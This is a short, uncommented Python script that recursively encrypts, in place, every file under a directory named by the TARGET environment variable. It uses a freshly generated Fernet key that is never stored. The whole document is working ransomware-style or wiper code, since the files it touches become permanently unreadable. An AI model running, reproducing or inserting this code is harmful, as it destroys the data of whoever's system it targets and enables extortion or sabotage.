import os
from cryptography.fernet import Fernet
box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.environ["TARGET"]):
    for name in names:
        at = os.path.join(folder, name)
        data = open(at, "rb").read()
        with open(at, "wb") as out:
            out.write(box.encrypt(data))
